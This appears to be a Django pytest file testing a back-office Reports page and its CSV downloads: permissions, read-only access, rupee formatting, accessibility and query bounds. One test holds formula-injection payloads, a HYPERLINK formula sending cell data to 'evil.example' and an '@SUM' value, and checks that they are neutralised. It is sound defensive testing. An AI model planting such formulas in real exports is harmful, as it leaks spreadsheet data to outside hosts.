"""The back office's Reports page and its CSV files: read by staff holding the view
permission on enrolments (view-only staff included), refused to staff without it, GET
only and changing nothing; money in Indian digit grouping; each table a CSV whose every
cell is data, never a formula; a bounded number of queries however much data there is."""

from __future__ import annotations

import csv
import io

import pytest
import time_machine
from django.apps import apps
from django.contrib.auth.models import Permission
from django.test import Client
from django.urls import reverse

from accounts.models import User
from backoffice import reports
from backoffice.report_tables import TABLE_SLUGS, report_sections
from backoffice.tests.reports_data import (
    confirmed,
    enrolment,
    india,
    make_course,
    referrer,
    refunded,
    seed,
)
from core.tests.base import STAFF

pytestmark = pytest.mark.django_db

NOW = india("2026-12-15 12:00")
PAGE = "/admin/reports/"


@pytest.fixture(autouse=True)
def _clock() -> object:
    with time_machine.travel(NOW, tick=False) as traveller:
        yield traveller


def _staff_with(*codenames: str) -> Client:
    user = STAFF.create()
    user.user_permissions.set(Permission.objects.filter(codename__in=codenames))
    client = Client()
    client.force_login(User.objects.get(pk=user.pk))
    return client


@pytest.fixture
def viewer() -> Client:
    """Staff holding only view permissions (the enrolments' among them)."""
    return _staff_with("view_enrolment", "view_course", "view_certificate")


def _rows_everywhere() -> dict[str, int]:
    return {model._meta.label: model._default_manager.count() for model in apps.get_models()}


def test_it_lives_at_admin_reports_and_is_in_the_navigation(office: Client) -> None:
    assert reverse("backoffice:reports") == PAGE
    assert reverse("backoffice:report_csv", kwargs={"slug": "money-per-month"}) == (
        "/admin/reports/money-per-month.csv"
    )
    home = office.get("/admin/").content.decode()
    assert f'href="{PAGE}"' in home
    assert "Reports" in home


def test_view_only_staff_read_the_page_and_every_csv(viewer: Client) -> None:
    course = make_course("Web Development", fee=123456)
    confirmed(course, at=india("2026-12-01 10:00"))
    response = viewer.get(PAGE)
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    assert "private" in response["Cache-Control"]
    page = response.content.decode()
    assert "₹1,23,456" in page
    assert f'href="{PAGE}"' in page  # the sidebar's link, for them too
    for slug in TABLE_SLUGS:
        answer = viewer.get(f"/admin/reports/{slug}.csv")
        assert answer.status_code == 200, slug
        assert answer["Content-Type"] == "text/csv; charset=utf-8"
        assert answer["Content-Disposition"] == f'attachment; filename="{slug}.csv"'


def test_staff_without_the_permission_are_refused(client: Client) -> None:
    other = _staff_with("view_course", "view_certificate")
    assert other.get(PAGE).status_code == 403
    assert other.get("/admin/reports/money-per-month.csv").status_code == 403
    home = other.get("/admin/").content.decode()
    assert f'href="{PAGE}"' not in home


def test_someone_not_staff_is_sent_to_the_login(learner_client: Client, client: Client) -> None:
    for who in (client, learner_client):
        response = who.get(PAGE)
        assert response.status_code == 302
        assert response["Location"].startswith("/admin/login/")
        assert who.get("/admin/reports/money-per-month.csv").status_code == 302


def test_it_answers_get_only_and_changes_nothing(viewer: Client) -> None:
    seed(1, now=NOW)
    before = _rows_everywhere()
    assert viewer.head(PAGE).status_code == 200
    assert viewer.post(PAGE).status_code == 405
    assert viewer.post("/admin/reports/money-per-month.csv").status_code == 405
    assert viewer.get(PAGE).status_code == 200
    assert viewer.get("/admin/reports/top-referrers.csv").status_code == 200
    assert _rows_everywhere() == before


def test_an_unknown_table_is_not_found(viewer: Client) -> None:
    assert viewer.get("/admin/reports/no-such-table.csv").status_code == 404


def test_each_chart_has_a_text_alternative_and_its_table_a_caption(viewer: Client) -> None:
    seed(1, now=NOW)
    page = viewer.get(PAGE).content.decode()
    for section in report_sections(reports.report_cached()):
        for table in section.tables:
            assert f'<caption id="caption-{table.slug}">{table.title}</caption>' in page
            if table.chart:
                assert f'role="img" aria-label="{table.chart.description}"' in page.replace(
                    "&#x27;", "'"
                )
                assert f"the table “{table.title}”" in table.chart.description
    assert page.count("Download CSV") == len(TABLE_SLUGS)
    assert 'data-type="bar"' in page
    assert "a refund is subtracted in the month it is made" in page


def _csv(client: Client, slug: str) -> list[list[str]]:
    response = client.get(f"/admin/reports/{slug}.csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_money_csv_holds_whole_rupees_as_numbers(viewer: Client) -> None:
    course = make_course(fee=123456)
    confirmed(course, at=india("2026-11-30 23:30"))
    refunded(course, confirmed_at=india("2026-10-01 10:00"), refunded_at=india("2026-12-01 00:30"))
    rows = _csv(viewer, "money-per-month")
    assert rows[0] == ["Month", "Courses (₹)", "Events (₹)"]
    assert len(rows) == 13
    assert rows[-3:] == [
        ["Oct 2026", "123456", "0"],
        ["Nov 2026", "123456", "0"],
        ["Dec 2026", "-123456", "0"],
    ]
    page = viewer.get(PAGE).content.decode()
    assert "-₹1,23,456" in page


def test_names_people_typed_are_data_in_the_csv_and_text_on_the_page(viewer: Client) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    course = make_course(formula, fee=999)
    person = referrer("@SUM(1+1)")
    confirmed(course, at=india("2026-12-01 10:00"), referrer=person)
    by_course = _csv(viewer, "this-month-by-course")
    assert by_course[1][0] == "'" + formula
    assert by_course[1][1:] == ["999", "0", "999"]
    referrers = _csv(viewer, "top-referrers")
    assert referrers[0] == ["Referrer", "Referral code", "Confirmed enrolments", "Money (₹)"]
    assert referrers[1] == ["'@SUM(1+1)", person.referral_code, "1", "999"]
    page = viewer.get(PAGE).content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Open&quot;)" in page
    assert formula not in page


def test_empty_tables_say_so(viewer: Client) -> None:
    page = viewer.get(PAGE).content.decode()
    assert "No money confirmed or refunded for any course in Dec 2026 yet." in page
    assert "No batch is taking students" in page
    assert "No referred enrolment was confirmed in the last 12 months." in page


def _queries_for_report(django_assert_max_num_queries: object, bound: int) -> None:
    with django_assert_max_num_queries(bound):  # type: ignore[operator]
        reports.report_make(now=NOW)


# Two for the money per month, one for each other table.
REPORT_QUERIES = 8


@pytest.mark.parametrize("scale", [1, 10])
def test_the_report_takes_the_same_few_queries_whatever_the_data(
    scale: int, django_assert_max_num_queries: object
) -> None:
    seed(scale, now=NOW)
    assert enrolment  # the seed's rows are made through the same helpers
    _queries_for_report(django_assert_max_num_queries, REPORT_QUERIES)
    report = reports.report_make(now=NOW)
    assert sum(m.courses for m in report.months) > 0
    assert report.funnel[0].count > 0
    assert report.batches and report.referrers
    assert sum(w.count for w in report.weeks) > 0


def test_the_page_takes_a_bounded_number_of_queries(
    viewer: Client, django_assert_max_num_queries: object
) -> None:
    seed(10, now=NOW)
    # The session, the user and their permissions (4), the site settings (1), the
    # report's, and the database cache's read and write (6).
    with django_assert_max_num_queries(REPORT_QUERIES + 11):  # type: ignore[operator]
        assert viewer.get(PAGE).status_code == 200
    # Cached: the next minute's readers do not ask the database for the figures.
    with django_assert_max_num_queries(6):  # type: ignore[operator]
        assert viewer.get(PAGE).status_code == 200
